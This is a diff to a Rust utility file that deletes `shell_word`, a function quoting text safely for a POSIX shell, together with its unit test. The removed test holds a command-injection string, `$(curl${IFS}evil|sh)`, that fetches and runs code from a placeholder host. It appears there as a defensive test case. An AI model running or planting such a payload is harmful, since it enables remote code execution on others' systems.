@@ -99,12 +99,6 @@ pub fn padded(text: &str, width: usize) -> String {
     text.to_owned() + &" ".repeat(width.saturating_sub(text.chars().count()))
 }
 
-/// `text` as one word of a POSIX shell: what somebody else wrote must not become a command of whoever copies a line.
-pub fn shell_word(text: &str) -> String {
-    let plain = !text.is_empty() && text.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"-._~+/=:@,".contains(&byte));
-    if plain { text.to_owned() } else { format!("'{}'", text.replace('\'', r"'\''")) }
-}
-
 /// An instant as JSON carries it (RFC 3339, UTC).
 pub fn timestamp(instant: DateTime<Utc>) -> String {
     instant.to_rfc3339_opts(SecondsFormat::Secs, true)
@@ -135,15 +129,6 @@ mod tests {
 
     fn at(text: &str) -> DateTime<Utc> {
         DateTime::parse_from_rfc3339(text).unwrap().with_timezone(&Utc)
-    }
-
-    #[test]
-    fn what_somebody_else_wrote_stays_one_word() {
-        assert_eq!(shell_word("api://x/Tasks.Read"), "api://x/Tasks.Read");
-        assert_eq!(shell_word("EwB0A8l6/a+b=="), "EwB0A8l6/a+b==");
-        assert_eq!(shell_word("$(curl${IFS}evil|sh)"), "'$(curl${IFS}evil|sh)'");
-        assert_eq!(shell_word(r#"claims={"a":"it's"}"#), r#"'claims={"a":"it'\''s"}'"#);
-        assert_eq!(shell_word(""), "''");
     }
 
     #[test]
